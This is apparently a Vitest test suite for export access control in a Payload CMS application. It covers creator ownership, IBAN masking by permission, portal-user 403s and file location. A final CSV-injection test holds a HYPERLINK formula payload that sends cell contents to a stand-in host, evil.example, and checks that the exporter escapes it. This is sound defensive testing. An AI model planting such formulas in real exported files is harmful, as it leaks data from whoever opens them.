import { existsSync } from 'node:fs'
import path from 'node:path'

import type { Payload } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'

import { P } from '@/constants/permissions'
import { env } from '@/server/env'
import type { Export } from '@/payload-types'

import { expectFieldError } from '../helpers/errors'
import { testPayload } from '../helpers/payload'
import { type Actor, actorFor, actorWithPermissions, as, portalToken } from '../helpers/personas'
import { request, rest } from '../helpers/rest'

/**
 * Exports (issue 12): a file belongs to whoever made it (and administrators, who hold 900170),
 * shows IBANs the way its maker sees them, lives in the data directory, and read-only roles make
 * none. Portal users get a 403 on every export path.
 */
let payload: Payload
let admin: Actor
let clerk: Actor
let accounting: Actor
let auditor: Actor
/** The demo clerk without 900114 (bank data in full). */
let maskedClerk: Actor

const fullIban = 'AT611904300234573201'
const maskedIban = 'AT61 **** **** **** 3201'

beforeAll(async () => {
  payload = await testPayload()
  admin = await actorFor(payload, 'admin')
  clerk = await actorFor(payload, 'clerk')
  accounting = await actorFor(payload, 'accounting')
  auditor = await actorFor(payload, 'auditor')
  maskedClerk = await actorFor(payload, 'clerk2')
})

async function createExport(actor: Actor, data: Record<string, unknown> = {}) {
  const response = await rest<{ doc: Export }>('POST', '/exports', {
    token: actor.token,
    body: { collectionSlug: 'persons', format: 'csv', ...data },
  })
  return response
}

async function fileOf(actor: Actor, doc: Export) {
  const response = await request('GET', `/exports/file/${encodeURIComponent(doc.filename!)}`, { token: actor.token })
  return { status: response.status, text: await response.text() }
}

describe('an export belongs to its creator', () => {
  it('the administrator’s persons export with full IBANs is closed to the clerk', async () => {
    const created = await createExport(admin)
    expect(created.status, JSON.stringify(created.body)).toBe(201)
    const doc = created.body.doc
    const own = await fileOf(admin, doc)
    expect(own.status).toBe(200)
    expect(own.text).toContain(fullIban)

    for (const other of [clerk, maskedClerk, accounting, auditor]) {
      const file = await fileOf(other, doc)
      expect(file.status).toBeGreaterThanOrEqual(400)
      expect(file.text).not.toContain(fullIban)
      expect((await rest('GET', `/exports/${doc.id}`, { token: other.token })).status).toBe(404)
      const list = await rest<{ docs: Export[] }>('GET', '/exports?limit=100', { token: other.token })
      expect(list.body.docs.map((d) => d.id)).not.toContain(doc.id)
      const local = await payload.find({ collection: 'exports', ...as(other), limit: 100 })
      expect(local.docs.map((d) => d.id)).not.toContain(doc.id)
    }
  })
})

describe('who may do what with a saved export', () => {
  it('creator and administrator read, download and delete it; other staff do none of it', async () => {
    const created = await createExport(clerk, { collectionSlug: 'units' })
    expect(created.status, JSON.stringify(created.body)).toBe(201)
    const doc = created.body.doc
    expect(doc.createdBy).toMatchObject({ id: clerk.user!.id })
    for (const allowed of [clerk, admin]) {
      expect((await rest('GET', `/exports/${doc.id}`, { token: allowed.token })).status).toBe(200)
      expect((await fileOf(allowed, doc)).status).toBe(200)
      expect((await payload.findByID({ collection: 'exports', id: doc.id, ...as(allowed) })).id).toBe(doc.id)
    }
    for (const other of [maskedClerk, accounting, auditor]) {
      expect((await rest('DELETE', `/exports/${doc.id}`, { token: other.token })).status).toBeGreaterThanOrEqual(400)
      await expect(payload.delete({ collection: 'exports', id: doc.id, ...as(other) })).rejects.toThrow()
    }
    expect((await payload.findByID({ collection: 'exports', id: doc.id })).id).toBe(doc.id)
    expect((await rest('DELETE', `/exports/${doc.id}`, { token: admin.token })).status).toBe(200)
    const own = await createExport(clerk, { collectionSlug: 'units' })
    expect((await rest('DELETE', `/exports/${own.body.doc.id}`, { token: clerk.token })).status).toBe(200)
  })

  it('read-only roles create none, through REST or the Local API', async () => {
    const before = (await payload.count({ collection: 'exports' })).totalDocs
    for (const readOnly of [accounting, auditor]) {
      expect((await createExport(readOnly)).status).toBe(403)
      await expect(
        payload.create({ collection: 'exports', data: { collectionSlug: 'persons', format: 'csv' }, ...as(readOnly) }),
      ).rejects.toThrow()
    }
    expect((await payload.count({ collection: 'exports' })).totalDocs).toBe(before)
  })

  it('nobody names the creator: the stamp is the signed-in user', async () => {
    const created = await createExport(clerk, { collectionSlug: 'units', createdBy: admin.user!.id })
    expect(created.status).toBe(201)
    expect(created.body.doc.createdBy).toMatchObject({ id: clerk.user!.id })
  })

  it('only collections offered for export, and only those the user may read', async () => {
    const notOffered = await createExport(clerk, { collectionSlug: 'users' })
    expectFieldError(notOffered, 'collectionSlug', 'exportNotOffered')
    const download = await rest('POST', '/exports/download', {
      token: clerk.token,
      body: { data: { collectionSlug: 'roles', format: 'csv' } },
    })
    expectFieldError(download, 'collectionSlug', 'exportNotOffered')
    const unitsOnly = await actorWithPermissions(payload, [P.unitsRead, P.unitsUpdate])
    expect((await createExport(unitsOnly)).status).toBe(403)
    const refused = await request('POST', '/exports/download', {
      token: unitsOnly.token,
      body: { data: { collectionSlug: 'persons', format: 'csv' } },
    })
    expect(refused.status).toBe(403)
  })

  it('keeps the files in the data directory, not in the program’s folder', async () => {
    const created = await createExport(clerk, { collectionSlug: 'units' })
    const filename = created.body.doc.filename!
    expect(existsSync(path.join(env().dataDir, 'exports', filename))).toBe(true)
    expect(existsSync(path.join(process.cwd(), 'exports', filename))).toBe(false)
  })
})

describe('an export shows IBANs the way its creator sees them', () => {
  it('masks IBANs in the saved file of a clerk without 900114', async () => {
    const created = await createExport(maskedClerk)
    expect(created.status, JSON.stringify(created.body)).toBe(201)
    const file = await fileOf(maskedClerk, created.body.doc)
    expect(file.status).toBe(200)
    expect(file.text).toContain(maskedIban)
    expect(file.text).not.toContain(fullIban)
  })

  it('masks IBANs in the direct download of a clerk without 900114', async () => {
    const response = await request('POST', '/exports/download', {
      token: maskedClerk.token,
      body: { data: { collectionSlug: 'persons', format: 'csv' } },
    })
    const text = await response.text()
    expect(response.status, text).toBe(200)
    expect(text).toContain(maskedIban)
    expect(text).not.toContain(fullIban)
  })
})

describe('portal users', () => {
  const answerWithin = (response: Promise<Response>) =>
    Promise.race([
      response,
      new Promise<never>((_, reject) => setTimeout(() => reject(new Error('no answer within 5 s')), 5000)),
    ])

  it.each([
    ['/exports/download', 'persons'],
    ['/exports/download', 'users'],
    ['/exports/download', 'roles'],
    ['/exports/export-preview', 'persons'],
    ['/exports/export-preview', 'users'],
  ])('get a 403 from %s for %s at once', async (endpoint, collectionSlug) => {
    const token = await portalToken('tenant')
    const body = endpoint.endsWith('download')
      ? { data: { collectionSlug, format: 'csv' } }
      : { collectionSlug, format: 'csv' }
    const response = await answerWithin(request('POST', endpoint, { token, body }))
    expect(response.status).toBe(403)
  })

  it('neither list, create nor read saved exports', async () => {
    const token = await portalToken('tenant')
    expect((await rest('GET', '/exports', { token })).status).toBe(403)
    expect((await rest('POST', '/exports', { token, body: { collectionSlug: 'persons', format: 'csv' } })).status).toBe(
      403,
    )
  })
})

describe('CSV injection', () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"klick")'

  it('a formula in a name reaches the export as text, in the saved file and the download', async () => {
    const person = await payload.create({
      collection: 'persons',
      data: { kind: 'natural', firstName: '@SUM(1+1)', lastName: formula },
    })
    const where = { id: { equals: person.id } }
    const created = await createExport(admin, { where, fields: ['id', 'firstName', 'lastName', 'displayName'] })
    expect(created.status, JSON.stringify(created.body)).toBe(201)
    const download = await request('POST', '/exports/download', {
      token: admin.token,
      body: { data: { collectionSlug: 'persons', format: 'csv', where, fields: ['id', 'firstName', 'lastName'] } },
    })
    for (const text of [(await fileOf(admin, created.body.doc)).text, await download.text()]) {
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""klick"")"`)
      expect(text).toContain(`'@SUM(1+1)`)
      expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
    }
  })
})
